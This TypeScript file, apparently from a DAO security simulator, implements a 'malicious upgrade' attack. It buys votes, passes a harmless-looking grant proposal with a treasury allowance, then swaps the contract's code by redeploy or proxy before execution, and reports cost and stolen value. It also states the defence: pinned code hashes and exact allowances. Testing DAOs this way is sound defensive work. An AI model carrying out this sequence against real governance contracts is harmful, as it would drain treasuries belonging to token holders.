import { ZeroAddress } from 'ethers';
import { GrantPayer, VotesToken } from '../../../../../contracts/bindings/index.js';
import { type Address, encodeCall } from '../../../../chain/index.js';
import type { EncodedCall } from '../../../draft/encoded-action.js';
import type { AttackSession } from '../../session/attack-session.js';
import { type AttackContext, oppositionOf } from '../attack-context.js';
import type { DaoAttackDefinition, DaoAttackOutcome } from '../dao-attack-definition.js';
import { HostileProposal } from '../hostile-proposal.js';
import { buyVotes } from '../market/buy-votes.js';
import type { TreasuryAsset } from '../market/treasury.js';
import { type MutableContract, redeployable, upgradeable } from '../mutable-contract.js';
import { amountOf } from '../words.js';

/** What deploying and exchanging the contracts costs, in gas, about; and the price of gas. */
const GAS = 2_000_000;
const GAS_PRICE_ETH = 20e-9;

/** Has a harmless contract approved, and exchanges its code before it runs. */
export const maliciousUpgrade: DaoAttackDefinition = {
  title: 'Malicious upgrade',
  defence:
    'Call only contracts that nobody can change or destroy, pin their code hash, allow exact amounts, and look again before execution.',
  run,
};

type Way = 'redeployed' | 'upgraded';
type End = 'executed' | 'harmless' | 'refused' | 'defeated' | 'notProposed';

async function run(context: AttackContext, session: AttackSession): Promise<DaoAttackOutcome> {
  const { defenders, threshold, attacker } = context;
  const asset = context.treasury.reduce<TreasuryAsset | null>(
    (best, each) => (best === null || (each.usd ?? 0) > (best.usd ?? 0) ? each : best),
    null,
  );
  const sentence =
    'Propose a harmless grant contract that gets an allowance; the usual voters approve; then exchange its code and execute.';
  const found = { sentence, votesNeeded: threshold, evidence: 'chain' } as const;
  const gas = { what: 'Gas, about 2 million at 20 gwei', usd: GAS * GAS_PRICE_ETH * context.loaded.dao.market.ethUsd };
  if (asset === null) {
    return { ...found, outcome: 'impossible', cost: [gas], why: 'The treasury is empty: there is nothing to allow.' };
  }
  const taking = { ...found, gainUsd: asset.usd ?? 0 };
  const purchase = threshold > 0n ? await buyVotes(context, session, new Map([[attacker, threshold]])) : null;
  if (purchase !== null && purchase.lacking !== null) {
    const why = `To be allowed to propose: ${purchase.lacking}`;
    return { ...taking, evidence: 'estimate', outcome: 'impossible', cost: [], why };
  }
  const cost =
    purchase === null
      ? [gas]
      : [gas, { what: `${amountOf(context, threshold)} to be allowed to propose`, usd: purchase.costUsd }];
  const { way, end } = await exchangeAfterApproval(context, session, asset);
  if (end === 'executed') {
    const how =
      way === 'redeployed'
        ? 'The contract was destroyed and deployed again with other code; since Cancun a proxy does the same.'
        : 'The contract was a proxy that its author pointed elsewhere.';
    return {
      ...taking,
      outcome: 'succeeds',
      cost,
      why: `Nothing compares the code that runs with the code voted on. ${how}`,
    };
  }
  const { tokens } = oppositionOf(defenders, context);
  const why: Record<Exclude<End, 'executed'>, string> = {
    notProposed: 'The governor let nobody propose it.',
    defeated: `The usual voters approved, but their ${amountOf(context, tokens)} are no quorum.`,
    refused: 'It was approved, and its execution failed when the code had been exchanged.',
    harmless: 'It was executed, and nothing could be taken.',
  };
  return { ...taking, outcome: 'fails', cost, why: why[end] };
}

/** Tries to deploy other code at the address, and where the chain refuses, a proxy. */
async function exchangeAfterApproval(
  context: AttackContext,
  session: AttackSession,
  asset: TreasuryAsset,
): Promise<{ readonly way: Way; readonly end: End }> {
  const { chain } = context.loaded;
  const before = await chain.snapshot();
  const first = await approveAndExchange(context, session, asset, await redeployable(session, context.attacker));
  if (first !== 'unexchanged') return { way: 'redeployed', end: first };
  await chain.revert(before);
  await session.catchUp();
  session.tell('attacker', 'begins again, with a proxy: this chain lets nobody redeploy');
  const second = await approveAndExchange(context, session, asset, await upgradeable(session, context.attacker));
  return { way: 'upgraded', end: second === 'unexchanged' ? 'refused' : second };
}

async function approveAndExchange(
  context: AttackContext,
  session: AttackSession,
  asset: TreasuryAsset,
  contract: MutableContract,
): Promise<End | 'unexchanged'> {
  const { loaded, attacker, defenders } = context;
  const proposal = await HostileProposal.make({
    loaded,
    session,
    calls: grantCalls(asset, contract.address),
    description: `let the grant contract use ${asset.symbol} of the treasury`,
    author: attacker,
    who: 'attacker',
  });
  if (proposal === null) return 'notProposed';
  const voters = defenders.map(({ address }) => address);
  await proposal.vote('usual voters', `${voters.length} vote For: the code is harmless`, voters, 'for');
  if (!(await proposal.close())) return 'defeated';
  let exchanged = false;
  const executed = await proposal.carryOut('attacker', false, async () => {
    exchanged = await contract.exchange();
  });
  if (!exchanged) return 'unexchanged';
  if (!executed) return 'refused';
  return (await takenBy(context, session, asset, contract.address)) > 0n ? 'executed' : 'harmless';
}

/** An allowance of all there is, or all native currency sent along; then the contract pays. */
function grantCalls({ token, amount }: TreasuryAsset, payer: Address): readonly EncodedCall[] {
  const pay = encodeCall(GrantPayer, 'pay', [token ?? (ZeroAddress as Address)]);
  if (token === null) return [{ to: payer, valueWei: amount, data: pay }];
  return [
    { to: token, valueWei: 0n, data: encodeCall(VotesToken, 'approve', [payer, amount]) },
    { to: payer, valueWei: 0n, data: pay },
  ];
}

function takenBy(
  { loaded }: AttackContext,
  session: AttackSession,
  { token }: TreasuryAsset,
  taker: Address,
): Promise<bigint> {
  return token === null
    ? loaded.chain.balance(taker)
    : session.read({ contract: VotesToken, address: token }, 'balanceOf', [taker]);
}
